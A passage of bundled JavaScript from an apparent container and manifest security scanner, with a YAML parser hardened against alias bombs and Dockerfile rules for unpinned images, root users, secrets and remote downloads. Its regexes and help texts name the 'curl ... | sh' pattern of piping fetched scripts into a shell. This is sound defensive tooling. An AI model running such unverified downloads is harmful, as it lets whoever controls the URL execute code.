export const id = 946;
export const ids = [946];
export const modules = {

/***/ 56946:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  WorkloadIndex: () => (/* reexport */ WorkloadIndex),
  buildWorkloadIndex: () => (/* reexport */ buildWorkloadIndex),
  createContainerScanner: () => (/* binding */ createContainerScanner),
  createKubernetesScanner: () => (/* binding */ createKubernetesScanner),
  createWorkflowScanner: () => (/* binding */ createWorkflowScanner),
  findWorkloadManifest: () => (/* reexport */ findWorkloadManifest),
  workloadsIn: () => (/* reexport */ workloadsIn)
});

// EXTERNAL MODULE: ./src/shared/errors.ts
var shared_errors = __webpack_require__(58382);
// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
;// CONCATENATED MODULE: ./actions/scan/src/manifests/common/findings.ts

function fingerprintOf(ruleId, path, identity) {
    return (0,external_node_crypto_.createHash)('sha256').update(`${ruleId}\0${path}\0${identity}`).digest('hex').slice(0, 32);
}
function toFinding(family, path, hit, detectedAt) {
    const { rule } = hit;
    const location = { path };
    if (hit.line) {
        location.start_line = hit.line;
        location.end_line = Math.max(hit.line, hit.endLine ?? hit.line);
    }
    return {
        fingerprint: fingerprintOf(rule.id, path, hit.identity),
        kind: family.kind,
        event_type: family.eventType,
        rule: {
            id: rule.id,
            name: rule.name,
            help: rule.help,
            ...(rule.helpUri ? { help_uri: rule.helpUri } : {}),
            ...(rule.cwe ? { cwe: rule.cwe } : {}),
            tags: [...new Set(['security', ...family.tags, ...(hit.tags ?? [])])],
        },
        message: hit.message,
        severity: hit.severity ?? rule.severity,
        severity_source: { source: 'secloop-rule' },
        confidence: hit.confidence ?? rule.confidence,
        location,
        fix: { summary: rule.fix, available: false },
        detected_at: detectedAt,
    };
}
/**
 * Names of settings that hold credentials. Suffixes that name where a secret lives, or describe it, are not
 * the secret itself (POSTGRES_PASSWORD_FILE, TOKEN_URL, SECRET_NAME).
 */
const SECRET_NAME = /(PASSWORD|PASSWD|PASSPHRASE|SECRET|TOKEN|API_?KEY|APIKEY|PRIVATE_?KEY|ACCESS_?KEY|AUTH_?KEY|CREDENTIALS?|_PWD$|^PWD_)/i;
const NOT_A_SECRET_NAME = /(_FILE|_PATH|_DIR|_URL|_URI|_ENDPOINT|_HOST|_NAME|_REF|_KEY_ID|_ID|_HEADER|_LENGTH|_LEN|_TTL|_EXPIRY|_EXPIRES|_TIMEOUT|_TYPE|_ENABLED|_REQUIRED|_FIELD|_ENV|_VAR|_SECRET_NAME)$/i;
function looksLikeSecretName(name) {
    return SECRET_NAME.test(name) && !NOT_A_SECRET_NAME.test(name);
}
/**
 * A value that is a reference or a placeholder rather than a credential: empty, an environment or template
 * reference, or an obvious "fill me in" marker.
 */
function isReferenceValue(value) {
    const v = value.trim();
    if (v === '')
        return true;
    if (/^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?$/.test(v))
        return true; // $VAR, ${VAR}
    if (/^\$\([A-Za-z_][A-Za-z0-9_]*\)$/.test(v))
        return true; // $(VAR): Kubernetes dependent env
    if (/^\$\{\{.*\}\}$/.test(v) || /^\{\{.*\}\}$/.test(v))
        return true; // ${{ secrets.X }}, {{ .Values.x }}
    if (/^<[^>]+>$/.test(v))
        return true; // <your-token-here>
    return false;
}
/** Never print a secret, not even a prefix: the length and the line are enough to find it in the file. */
function redact(value) {
    return `****** (${value.length} characters, redacted)`;
}

// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var dist = __webpack_require__(38815);
;// CONCATENATED MODULE: ./actions/scan/src/manifests/common/yaml.ts

/**
 * YAML read for rules that must point at a line: the documents stay as nodes with source ranges instead of
 * plain objects, so every finding can name the line of the key at fault. Nothing here calls `toJS`: aliases
 * are followed lazily and counted, so a "billion laughs" document costs a bounded number of steps instead of
 * an exponential expansion (the role `maxAliasCount` plays for `toJS`).
 */
/** More alias dereferences than this in one document is an alias bomb, not a manifest. */
const MAX_ALIAS_DEREFERENCES = 10_000;
/** Kubernetes lists and Helm output reach hundreds of documents; tens of thousands is not a manifest. */
const MAX_DOCUMENTS = 5_000;
/**
 * Flow collections (`[[[[...`) nested deeper than this are refused before parsing: the parser's time grows
 * with the depth (seconds for a few hundred thousand levels) and no manifest nests more than a few levels.
 */
const MAX_FLOW_DEPTH = 256;
/** A document (or file) that exceeds one of the bounds above; reported as a warning, the scan goes on. */
class ManifestLimitError extends Error {
    constructor(message) {
        super(message);
        this.name = 'ManifestLimitError';
    }
}
/** Parses every document of a YAML stream. `version: '1.1'` reads `yes`/`on` as booleans, as Kubernetes does. */
function parseYamlFile(text, version) {
    const depth = flowDepth(text);
    if (depth > MAX_FLOW_DEPTH)
        throw new ManifestLimitError(`flow collections nested ${depth} levels deep (limit ${MAX_FLOW_DEPTH})`);
    const lineCounter = new dist/* LineCounter */.HN();
    const parsed = (0,dist/* parseAllDocuments */.hR)(text, {
        version,
        lineCounter,
        keepSourceTokens: true,
        prettyErrors: true,
    });
    const docs = Array.isArray(parsed) ? parsed : [];
    if (docs.length > MAX_DOCUMENTS)
        throw new ManifestLimitError(`more than ${MAX_DOCUMENTS} YAML documents`);
    const documents = [];
    const problems = [];
    for (const doc of docs) {
        if (doc.errors.length > 0) {
            const first = doc.errors[0];
            const line = first.linePos?.[0]?.line;
            problems.push({ ...(line ? { line } : {}), reason: `YAML document does not parse: ${firstLine(first.message)}` });
            continue;
        }
        documents.push(new YamlView(doc, lineCounter, text));
    }
    return { documents, problems };
}
/**
 * Deepest unclosed run of `[`/`{`, counted without regard to quoting or comments: brackets there are
 * balanced in practice, and it takes hundreds of unclosed ones to cross the limit. Stops early past it.
 */
function flowDepth(text) {
    let depth = 0;
    let max = 0;
    for (let i = 0; i < text.length; i++) {
        const c = text.charCodeAt(i);
        if (c === 0x5b || c === 0x7b) {
            if (++depth > max) {
                max = depth;
                if (max > MAX_FLOW_DEPTH)
                    return max;
            }
        }
        else if ((c === 0x5d || c === 0x7d) && depth > 0) {
            depth--;
        }
    }
    return max;
}
function firstLine(message) {
    const nl = message.indexOf('\n');
    return nl < 0 ? message : message.slice(0, nl);
}
/** Read access to one parsed document: lookups that follow aliases and merge keys, and 1-based lines. */
class YamlView {
    doc;
    lineCounter;
    fileText;
    anchors;
    dereferences = 0;
    constructor(doc, lineCounter, fileText) {
        this.doc = doc;
        this.lineCounter = lineCounter;
        this.fileText = fileText;
    }
    get contents() {
        return this.deref(this.doc.contents ?? undefined);
    }
    /** Offset of the document's first content in the file (for "# Source:" comments above it). */
    get startOffset() {
        return this.doc.range[0];
    }
    lineAt(offset) {
        return this.lineCounter.linePos(offset).line;
    }
    /** The line of a node, or of a pair's key (where an editor would point). */
    line(item) {
        if (!item)
            return undefined;
        const node = (0,dist/* isPair */.tO)(item) ? item.key : item;
        const range = node && typeof node === 'object' && 'range' in node ? node.range : undefined;
        return range ? this.lineAt(range[0]) : undefined;
    }
    /** The last line a node's value spans (for multi-line findings). */
    endLine(item) {
        if (!item?.range)
            return undefined;
        // range[1] is one past the value; step back so a trailing newline does not count as the next line.
        return this.lineAt(Math.max(item.range[0], item.range[1] - 1));
    }
    deref(node) {
        if (node === null || node === undefined)
            return undefined;
        if (!(0,dist/* isAlias */.Vj)(node))
            return node;
        if (++this.dereferences > MAX_ALIAS_DEREFERENCES) {
            throw new ManifestLimitError(`more than ${MAX_ALIAS_DEREFERENCES} alias dereferences (alias bomb?)`);
        }
        const candidates = this.anchorIndex().get(node.source);
        if (!candidates)
            return undefined;
        // An anchor may be redefined: an alias refers to the closest definition before it.
        const at = node.range?.[0] ?? Number.MAX_SAFE_INTEGER;
        let target;
        for (const c of candidates)
            if ((c.range?.[0] ?? 0) < at)
                target = c;
        return target;
    }
    map(node) {
        const n = this.deref(node);
        return (0,dist/* isMap */.jh)(n) ? n : undefined;
    }
    seq(node) {
        const n = this.deref(node);
        return (0,dist/* isSeq */.oP)(n) ? n : undefined;
    }
    /** The pair for `key` in a mapping, looking through `<<` merge keys the way YAML 1.1 does. */
    pair(node, key, depth = 0) {
        const map = this.map(node);
        if (!map || depth > 8)
            return undefined;
        for (const p of map.items)
            if (this.keyName(p) === key)
                return p;
        for (const p of map.items) {
            if (this.keyName(p) !== '<<')
                continue;
            const sources = this.seq(p.value)?.items ?? [p.value];
            for (const source of sources) {
                const found = this.pair(source, key, depth + 1);
                if (found)
                    return found;
            }
        }
        return undefined;
    }
    /** The value at a path of keys, or undefined as soon as one step is missing or not a mapping. */
    get(node, ...path) {
        let current = this.deref(node);
        for (const key of path) {
            const p = this.pair(current, key);
            if (!p)
                return undefined;
            current = this.deref(p.value);
        }
        return current;
    }
    keyName(pair) {
        const key = this.deref(pair.key);
        if (!(0,dist/* isScalar */.jn)(key))
            return undefined;
        const v = key.value;
        // YAML 1.1 resolves a `<<` key to a symbol (the merge key), not to the string.
        if (typeof v === 'symbol')
            return v.description;
        return typeof v === 'string' ? v : typeof v === 'number' || typeof v === 'boolean' ? String(v) : undefined;
    }
    /** A scalar's value as text (numbers and booleans as written by String), else undefined. */
    text(node) {
        const n = this.deref(node);
        if (!(0,dist/* isScalar */.jn)(n))
            return undefined;
        const v = n.value;
        if (typeof v === 'string')
            return v;
        if (typeof v === 'number' || typeof v === 'boolean' || typeof v === 'bigint')
            return String(v);
        return undefined;
    }
    scalar(node) {
        const n = this.deref(node);
        return (0,dist/* isScalar */.jn)(n) ? n.value : undefined;
    }
    items(node) {
        const seq = this.seq(node);
        if (!seq)
            return [];
        const out = [];
        for (const item of seq.items) {
            const n = this.deref(item);
            if (n)
                out.push(n);
        }
        return out;
    }
    /** The pairs of a mapping with their key names (merge keys not expanded: callers want declared keys). */
    entries(node) {
        const map = this.map(node);
        if (!map)
            return [];
        const out = [];
        for (const pair of map.items) {
            const key = this.keyName(pair);
            if (key !== undefined)
                out.push({ key, pair, value: this.deref(pair.value) });
        }
        return out;
    }
    /** The raw source text a node spans (block scalars keep `${{ }}` verbatim, for locating a match). */
    source(node) {
        const range = node?.range;
        if (!range)
            return undefined;
        return { text: this.fileText.slice(range[0], range[1]), offset: range[0] };
    }
    anchorIndex() {
        if (!this.anchors) {
            const anchors = new Map();
            (0,dist/* visit */.YR)(this.doc, (_key, node) => {
                const anchor = node.anchor;
                if (anchor && ((0,dist/* isScalar */.jn)(node) || (0,dist/* isMap */.jh)(node) || (0,dist/* isSeq */.oP)(node))) {
                    const list = anchors.get(anchor) ?? [];
                    list.push(node);
                    anchors.set(anchor, list);
                }
            });
            this.anchors = anchors;
        }
        return this.anchors;
    }
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/common/scanner.ts



/** Manifests are small; anything larger than this is generated data or an attack on the parser. */
const MAX_MANIFEST_CHARS = 4 * 1024 * 1024;
/**
 * The shared shape of the three manifest scanners: analyse each wanted file on its own, turn rule hits into
 * findings, and keep bad input (too large, alias bombs, nesting deep enough to exhaust the stack) as a
 * warning naming the file, so one hostile file never stops the scan.
 */
function manifestScanner(spec) {
    const findings = new Map();
    const warnings = [];
    const errors = [];
    let examined = 0;
    return {
        kind: 'text',
        name: spec.name,
        wants: spec.wants,
        scanText(file, context) {
            const warn = (reason, line) => warnings.push({ file: file.relativePath, ...(line ? { line } : {}), scanner: spec.name, reason });
            if (file.text.length > MAX_MANIFEST_CHARS) {
                warn(`not analysed: ${file.text.length} characters exceeds the ${MAX_MANIFEST_CHARS}-character limit for manifests`);
                return;
            }
            let analysis;
            try {
                analysis = spec.analyse(file);
            }
            catch (error) {
                if (error instanceof ManifestLimitError || error instanceof RangeError) {
                    // RangeError: the stack ran out on pathological nesting; bounded, and the file is named.
                    warn(`not analysed: ${(0,shared_errors/* errorMessage */.gJ)(error)}`);
                }
                else {
                    errors.push(`${spec.name}: ${file.relativePath}: analysis failed: ${(0,shared_errors/* errorMessage */.gJ)(error)}`);
                    context.logger.error(errors[errors.length - 1]);
                }
                return;
            }
            for (const w of analysis.warnings)
                warn(w.reason, w.line);
            if (analysis.examined)
                examined++;
            for (const hit of analysis.hits) {
                const finding = toFinding(spec.family, file.relativePath, hit, context.detectedAt);
                // The same identity twice in one file (a duplicated key, a repeated step) is one finding.
                if (!findings.has(finding.fingerprint))
                    findings.set(finding.fingerprint, finding);
            }
        },
        async finish(context) {
            for (const w of warnings)
                context.logger.warning(`${spec.name}: ${w.reason}`, { file: w.file, line: w.line });
            const list = [...findings.values()].sort((a, b) => a.location.path.localeCompare(b.location.path) ||
                (a.location.start_line ?? 0) - (b.location.start_line ?? 0) ||
                a.rule.id.localeCompare(b.rule.id) ||
                a.fingerprint.localeCompare(b.fingerprint));
            context.logger.info(`${spec.name}: ${examined} file(s) examined, ${list.length} finding(s)`);
            return { findings: list, warnings: [...warnings], errors: [...errors], examined };
        },
    };
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/dockerfile/parser.ts
/**
 * A Dockerfile parser with the parts of the BuildKit grammar the rules depend on: parser directives
 * (`# syntax=`, `# escape=`), line continuations with the escape character (comment lines inside a
 * continuation are dropped, as Docker does), exec (JSON) and shell forms, `--flag=value` options, heredocs
 * (`RUN <<EOF`), and stages: `FROM image AS name`, where a later `FROM name` refers to the stage.
 * Every position in an instruction's text maps back to its physical line, so findings point at the line
 * that holds the offending word even inside a long continued RUN.
 */
const KNOWN_INSTRUCTIONS = new Set([
    'ADD', 'ARG', 'CMD', 'COPY', 'ENTRYPOINT', 'ENV', 'EXPOSE', 'FROM', 'HEALTHCHECK', 'LABEL', 'MAINTAINER',
    'ONBUILD', 'RUN', 'SHELL', 'STOPSIGNAL', 'USER', 'VOLUME', 'WORKDIR',
]);
const DIRECTIVE = /^#\s*([A-Za-z][A-Za-z0-9_-]*)\s*=\s*(.*?)\s*$/;
const HEREDOC_MARK = /<<(-?)(["']?)([A-Za-z_][A-Za-z0-9_]*)\2/g;
function parseDockerfile(text) {
    const lines = text.split(/\r?\n/);
    const directives = {};
    const problems = [];
    let i = 0;
    // Directives only count at the very top, before any blank line, comment or instruction.
    for (; i < lines.length; i++) {
        const m = DIRECTIVE.exec(lines[i]);
        if (!m)
            break;
        const name = m[1].toLowerCase();
        if (name in directives)
            break;
        directives[name] = m[2];
    }
    let escape = '\\';
    if (directives.escape !== undefined) {
        if (directives.escape === '`' || directives.escape === '\\')
            escape = directives.escape;
        else
            problems.push({ line: 1, reason: `invalid escape directive ${JSON.stringify(directives.escape)}; expected \\ or \`` });
    }
    const continuation = new RegExp(`${escape === '\\' ? '\\\\' : '`'}[ \\t]*$`);
    const instructions = [];
    while (i < lines.length) {
        const first = lines[i];
        if (first.trim() === '' || /^\s*#/.test(first)) {
            i++;
            continue;
        }
        const startLine = i + 1;
        // Pieces of the logical line, each with the physical line it came from.
        let logical = '';
        const pieces = [];
        let current = first;
        for (;;) {
            const cont = continuation.exec(current);
            pieces.push({ offset: logical.length, line: i + 1 });
            logical += cont ? current.slice(0, cont.index) : current;
            i++;
            if (!cont)
                break;
            // Inside a continuation, comment lines and blank lines are skipped, not ends of the instruction.
            while (i < lines.length && (/^\s*#/.test(lines[i]) || lines[i].trim() === ''))
                i++;
            if (i >= lines.length)
                break;
            current = lines[i];
        }
        const head = /^\s*(\S+)\s*/.exec(logical);
        if (!head)
            continue;
        const keyword = head[1].toUpperCase();
        const afterKeyword = head[0].length;
        const { flags, consumed } = readFlags(logical, afterKeyword);
        const argsStart = afterKeyword + consumed;
        const args = logical.slice(argsStart).trimEnd();
        const heredocs = [];
        let endLine = i;
        if (keyword === 'RUN' || keyword === 'COPY' || keyword === 'ADD') {
            // Heredoc bodies follow the arguments in commandText(), one '\n' before each line.
            let bodyOffset = args.length + 1;
            for (const m of args.matchAll(HEREDOC_MARK)) {
                const stripTabs = m[1] === '-';
                const name = m[3];
                const body = [];
                let closed = false;
                while (i < lines.length) {
                    const raw = lines[i];
                    i++;
                    if ((stripTabs ? raw.replace(/^\t+/, '') : raw) === name) {
                        closed = true;
                        break;
                    }
                    const kept = stripTabs ? raw.replace(/^\t+/, '') : raw;
                    pieces.push({ offset: argsStart + bodyOffset, line: i });
                    bodyOffset += kept.length + 1;
                    body.push(kept);
                }
                if (!closed)
                    problems.push({ line: startLine, reason: `heredoc <<${name} is not terminated` });
                heredocs.push({ name, body: body.join('\n') });
                endLine = i;
            }
        }
        let json;
        if (args.startsWith('[')) {
            try {
                const parsed = JSON.parse(args);
                if (Array.isArray(parsed) && parsed.every((x) => typeof x === 'string'))
                    json = parsed;
            }
            catch {
                // Not JSON: Docker runs it in shell form, and so do we.
            }
        }
        if (!KNOWN_INSTRUCTIONS.has(keyword))
            problems.push({ line: startLine, reason: `unknown instruction ${head[1]}` });
        const lineOf = (offset) => {
            const absolute = argsStart + offset;
            let line = startLine;
            for (const p of pieces) {
                if (p.offset > absolute)
                    break;
                line = p.line;
            }
            return line;
        };
        instructions.push({ keyword, flags, args, ...(json ? { json } : {}), heredocs, line: startLine, endLine: Math.max(startLine, endLine), lineOf });
    }
    return { directives, escape, ...buildStages(instructions, problems), problems };
}
/** Leading `--name=value` / `--name` options. */
function readFlags(text, from) {
    const flags = {};
    const re = /--([A-Za-z][A-Za-z0-9-]*)(?:=("[^"]*"|'[^']*'|\S*))?\s*/y;
    re.lastIndex = from;
    let end = from;
    for (let m = re.exec(text); m; m = re.exec(text)) {
        flags[m[1].toLowerCase()] = unquote(m[2] ?? '');
        end = re.lastIndex;
    }
    return { flags, consumed: end - from };
}
function unquote(s) {
    return s.length >= 2 && (s[0] === '"' || s[0] === "'") && s[s.length - 1] === s[0] ? s.slice(1, -1) : s;
}
function buildStages(instructions, problems) {
    const globalArgs = [];
    const stages = [];
    const byName = new Map();
    const argDefaults = new Map();
    for (const ins of instructions) {
        if (ins.keyword === 'FROM') {
            const words = splitWords(ins.args).map((w) => w.text);
            const imageText = words[0] ?? '';
            let name;
            if (words.length >= 3 && words[1].toUpperCase() === 'AS')
                name = words[2].toLowerCase();
            else if (words.length !== 1)
                problems.push({ line: ins.line, reason: `FROM expects "image [AS name]", got ${JSON.stringify(ins.args)}` });
            if (!imageText)
                problems.push({ line: ins.line, reason: 'FROM without an image' });
            const image = substitute(imageText, argDefaults);
            const parentStage = image !== undefined ? byName.get(image.toLowerCase()) : undefined;
            const stage = {
                index: stages.length,
                ...(name ? { name } : {}),
                from: ins,
                imageText,
                ...(image !== undefined ? { image } : {}),
                ...(parentStage ? { parentStage } : {}),
                instructions: [],
            };
            stages.push(stage);
            if (name)
                byName.set(name, stage);
            continue;
        }
        const stage = stages[stages.length - 1];
        if (stage) {
            stage.instructions.push(ins);
        }
        else if (ins.keyword === 'ARG') {
            globalArgs.push(ins);
            for (const { name, value } of assignments(ins))
                if (value !== undefined)
                    argDefaults.set(name, value);
        }
        else {
            problems.push({ line: ins.line, reason: `${ins.keyword} before the first FROM (only ARG may come first)` });
        }
    }
    return { globalArgs, stages };
}
/** `$VAR`, `${VAR}`, `${VAR:-default}`, `${VAR:+alt}` with the known values; undefined if one is unknown. */
function substitute(text, values) {
    let unknown = false;
    const out = text.replace(/\$(?:\{([A-Za-z_][A-Za-z0-9_]*)(?::?([-+])([^}]*))?\}|([A-Za-z_][A-Za-z0-9_]*))/g, (_m, braced, op, word, bare) => {
        const name = (braced ?? bare);
        const value = values.get(name);
        if (op === '-')
            return value ? value : word;
        if (op === '+')
            return value ? word : '';
        if (value === undefined) {
            unknown = true;
            return '';
        }
        return value;
    });
    return unknown ? undefined : out;
}
/** Shell-like words: whitespace separated, with single/double quotes and backslash escapes removed. */
function splitWords(s) {
    const words = [];
    let i = 0;
    while (i < s.length) {
        while (i < s.length && /\s/.test(s[i]))
            i++;
        if (i >= s.length)
            break;
        const start = i;
        let text = '';
        while (i < s.length && !/\s/.test(s[i])) {
            const c = s[i];
            if (c === '"' || c === "'") {
                const close = s.indexOf(c, i + 1);
                const end = close < 0 ? s.length : close;
                text += c === '"' ? s.slice(i + 1, end).replace(/\\(.)/g, '$1') : s.slice(i + 1, end);
                i = end + 1;
            }
            else if (c === '\\' && i + 1 < s.length) {
                text += s[i + 1];
                i += 2;
            }
            else {
                text += c;
                i++;
            }
        }
        words.push({ text, offset: start });
    }
    return words;
}
/** The variables an ENV or ARG instruction sets, in both `K=V ...` and legacy `ENV K V` forms. */
function assignments(ins) {
    const words = splitWords(ins.args);
    if (words.length === 0)
        return [];
    if (ins.keyword === 'ENV' && !words[0].text.includes('=')) {
        // Legacy form: the first word is the name, the rest of the line (as written) is the value.
        const rest = ins.args.slice(words[0].offset + ins.args.slice(words[0].offset).search(/\s|$/)).trim();
        return [{ name: words[0].text, value: splitWords(rest).map((w) => w.text).join(' '), offset: words[0].offset }];
    }
    return words.map((w) => {
        const eq = w.text.indexOf('=');
        return eq < 0 ? { name: w.text, offset: w.offset } : { name: w.text.slice(0, eq), value: w.text.slice(eq + 1), offset: w.offset };
    });
}
function parseImageReference(ref) {
    const at = ref.indexOf('@');
    const digest = at >= 0 ? ref.slice(at + 1) : undefined;
    const rest = at >= 0 ? ref.slice(0, at) : ref;
    const slash = rest.lastIndexOf('/');
    const colon = rest.lastIndexOf(':');
    // A colon before the last slash is a registry port (localhost:5000/app), not a tag.
    const hasTag = colon > slash;
    return {
        name: hasTag ? rest.slice(0, colon) : rest,
        ...(hasTag ? { tag: rest.slice(colon + 1) } : {}),
        ...(digest ? { digest } : {}),
    };
}
/** The command text of a RUN: shell form as written, exec form joined, heredoc bodies appended. */
function commandText(ins) {
    const base = ins.json ? ins.json.join(' ') : ins.args;
    return ins.heredocs.length ? `${base}\n${ins.heredocs.map((h) => h.body).join('\n')}` : base;
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/dockerfile/rules.ts


const DOCS = 'https://docs.docker.com/build/building/best-practices/';
const DOCKER_RULES = {
    unpinnedBase: {
        id: 'secloop.docker.unpinned-base-image',
        name: 'Base image not pinned',
        help: 'The base image is untagged or uses `latest`, so every build may pull a different image: builds are not ' +
            'reproducible and a compromised or breaking upstream push lands silently. Pin a version tag, and ideally ' +
            'the digest: `FROM node:20.11-bookworm-slim@sha256:<digest>`.',
        helpUri: `${DOCS}#from`,
        cwe: ['CWE-829', 'CWE-1357'],
        severity: 'medium',
        confidence: 0.9,
        fix: 'Pin the base image to a version tag and digest (FROM image:1.2.3@sha256:...).',
    },
    rootUser: {
        id: 'secloop.docker.root-user',
        name: 'Container runs as root',
        help: 'The final stage sets no USER (or sets root), so the container process runs as UID 0: a compromise of the ' +
            'application is a compromise of root in the container, one kernel bug away from the host. Create an ' +
            'unprivileged user and switch to it at the end: `RUN useradd -r -u 10001 app` then `USER 10001`.',
        helpUri: `${DOCS}#user`,
        cwe: ['CWE-250'],
        severity: 'high',
        confidence: 0.85,
        fix: 'Add `USER <non-root uid>` to the final stage.',
    },
    curlPipeShell: {
        id: 'secloop.docker.curl-pipe-shell',
        name: 'Remote script piped into a shell',
        help: 'A script is downloaded and executed in one step (`curl ... | sh`): its content is neither pinned nor ' +
            'verified, so whoever controls the URL (or the network path) runs code in your build. Download to a file, ' +
            'verify a pinned checksum (`sha256sum -c`), then run it, or install the tool from a package manager.',
        cwe: ['CWE-494'],
        severity: 'high',
        confidence: 0.9,
        fix: 'Download the script, verify its pinned SHA-256, then execute it.',
    },
    addRemoteUrl: {
        id: 'secloop.docker.add-remote-url',
        name: 'ADD of a remote URL',
        help: 'ADD fetches the URL at build time without verifying what it gets. Use `ADD --checksum=sha256:<hash> <url>` ' +
            '(BuildKit) or `RUN curl -fsSLo file <url> && echo "<hash>  file" | sha256sum -c`.',
        helpUri: `${DOCS}#add-or-copy`,
        cwe: ['CWE-494', 'CWE-829'],
        severity: 'medium',
        confidence: 0.9,
        fix: 'Add --checksum=sha256:<hash> to the ADD, or download and verify with RUN.',
    },
    secretInImage: {
        id: 'secloop.docker.secret-in-env',
        name: 'Credential baked into the image',
        help: 'An ENV or ARG sets a credential to a literal value. ENV values are stored in the image configuration and ' +
            'ARG values in its build history: anyone who can pull the image can read them. Remove the value, rotate ' +
            'the credential, and pass it at run time (orchestrator secrets) or at build time with ' +
            '`RUN --mount=type=secret,id=...`.',
        helpUri: 'https://docs.docker.com/build/building/secrets/',
        cwe: ['CWE-798', 'CWE-538'],
        severity: 'high',
        confidence: 0.8,
        fix: 'Remove the literal; rotate the credential; use build secrets or runtime secrets.',
    },
};
/** A download piped into a shell or interpreter, within one pipeline (no `;`, `&&` or newline between). */
const PIPE_TO_SHELL = /\b(curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:\S*\/)?(?:(?:ba|da|z|k|fi)?sh|python[0-9.]*|perl|ruby|node)\b/g;
/** `sh -c "$(curl ...)"` and `bash <(curl ...)`. */
const SHELL_OF_DOWNLOAD = /\b(?:ba|da|z|k)?sh\s+(?:-\S+\s+)*(?:["']?\$\(|<\()\s*(curl|wget)\b[^)\n]*/g;
const DOWNLOAD_URL = /(?:https?|ftp):\/\/[^\s|;&'")]+/;
function stageLabel(stage) {
    return stage ? (stage.name ?? `#${stage.index}`) : 'global';
}
function checkDockerfile(file) {
    const hits = [];
    const final = file.stages[file.stages.length - 1];
    for (const stage of file.stages)
        hits.push(...baseImage(stage, stage === final));
    if (final)
        hits.push(...rootUser(final));
    for (const ins of file.globalArgs)
        hits.push(...secretsIn(ins, undefined));
    for (const stage of file.stages) {
        const pipeCounts = new Map();
        for (const ins of stage.instructions) {
            if (ins.keyword === 'RUN')
                hits.push(...pipedDownloads(ins, stage, pipeCounts));
            if (ins.keyword === 'ADD')
                hits.push(...remoteAdds(ins, stage));
            if (ins.keyword === 'ENV' || ins.keyword === 'ARG')
                hits.push(...secretsIn(ins, stage));
        }
    }
    return hits;
}
function baseImage(stage, isFinal) {
    if (stage.parentStage || stage.image === undefined)
        return [];
    const image = stage.image;
    if (image.toLowerCase() === 'scratch')
        return [];
    const ref = parseImageReference(image);
    if (ref.digest)
        return [];
    if (ref.tag !== undefined && ref.tag !== 'latest')
        return [];
    const shown = image === stage.imageText ? image : `${stage.imageText} (= ${image})`;
    const what = ref.tag === 'latest' ? 'uses the floating `latest` tag' : 'has no tag (Docker pulls `latest`)';
    return [
        {
            rule: DOCKER_RULES.unpinnedBase,
            message: `Base image ${shown} of ${isFinal ? 'the final stage' : `build stage ${stageLabel(stage)}`} ${what}; pin a version and digest.`,
            line: stage.from.line,
            endLine: stage.from.endLine,
            identity: `stage:${stageLabel(stage)}:from:${ref.name}`,
            // A builder stage's image does not ship, but it still decides what gets built.
            severity: isFinal ? 'medium' : 'low',
            tags: [`stage:${stageLabel(stage)}`],
        },
    ];
}
const ROOT_USER = /^(root|0)(:.*)?$/;
/** Base images that are documented to default to an unprivileged user. */
const NON_ROOT_BASE = /(nonroot|rootless|non-root)/i;
function rootUser(final) {
    // USER is inherited from the stage a stage builds on, so walk the chain back to an image.
    for (let stage = final; stage; stage = stage.parentStage) {
        const users = stage.instructions.filter((i) => i.keyword === 'USER');
        const last = users[users.length - 1];
        if (!last)
            continue;
        const user = splitWords(last.args)[0]?.text ?? '';
        if (user.includes('$'))
            return []; // set from a build argument: cannot tell
        if (!ROOT_USER.test(user))
            return [];
        return [
            {
                rule: DOCKER_RULES.rootUser,
                message: `The final stage runs as ${user} (USER ${user}${stage === final ? '' : ` inherited from stage ${stageLabel(stage)}`}); switch to a non-root user.`,
                line: last.line,
                identity: 'final-stage:user',
                confidence: 0.95,
            },
        ];
    }
    let origin = final;
    while (origin.parentStage)
        origin = origin.parentStage;
    if (origin.image !== undefined && NON_ROOT_BASE.test(origin.image))
        return [];
    return [
        {
            rule: DOCKER_RULES.rootUser,
            message: `The final stage (FROM ${final.imageText}) sets no USER, so the container runs as root unless its base image changes the user; add USER with a non-root UID.`,
            line: final.from.line,
            identity: 'final-stage:user',
        },
    ];
}
function pipedDownloads(ins, stage, counts) {
    const text = commandText(ins);
    const hits = [];
    for (const re of [PIPE_TO_SHELL, SHELL_OF_DOWNLOAD]) {
        for (const m of text.matchAll(re)) {
            const url = DOWNLOAD_URL.exec(m[0])?.[0];
            const target = url ? url.replace(/[?#].*$/, '') : 'unknown-url';
            const seen = counts.get(target) ?? 0;
            counts.set(target, seen + 1);
            const line = ins.json ? ins.line : ins.lineOf(m.index);
            hits.push({
                rule: DOCKER_RULES.curlPipeShell,
                message: `RUN in stage ${stageLabel(stage)} pipes a download${url ? ` from ${target}` : ''} straight into a shell (${m[1]} | sh); verify a pinned checksum before running it.`,
                line,
                identity: `stage:${stageLabel(stage)}:pipe:${target}:${seen}`,
                tags: [`stage:${stageLabel(stage)}`],
            });
        }
    }
    return hits;
}
function remoteAdds(ins, stage) {
    if (ins.flags.checksum)
        return [];
    const words = ins.json ?? splitWords(ins.args).map((w) => w.text);
    const sources = words.slice(0, -1);
    return sources
        .filter((s) => /^(https?|ftp):\/\//i.test(s) || /^git@|\.git(#.*)?$/.test(s))
        .map((url) => ({
        rule: DOCKER_RULES.addRemoteUrl,
        message: `ADD in stage ${stageLabel(stage)} fetches ${url.replace(/[?#].*$/, '')} without a checksum; add --checksum=sha256:<hash> or download and verify it.`,
        line: ins.line,
        endLine: ins.endLine,
        identity: `stage:${stageLabel(stage)}:add:${url.replace(/[?#].*$/, '')}`,
        tags: [`stage:${stageLabel(stage)}`],
    }));
}
function secretsIn(ins, stage) {
    const hits = [];
    for (const a of assignments(ins)) {
        if (a.value === undefined || !looksLikeSecretName(a.name) || isReferenceValue(a.value))
            continue;
        const persisted = ins.keyword === 'ENV' ? 'stored in the image configuration' : 'recorded in the image build history';
        hits.push({
            rule: DOCKER_RULES.secretInImage,
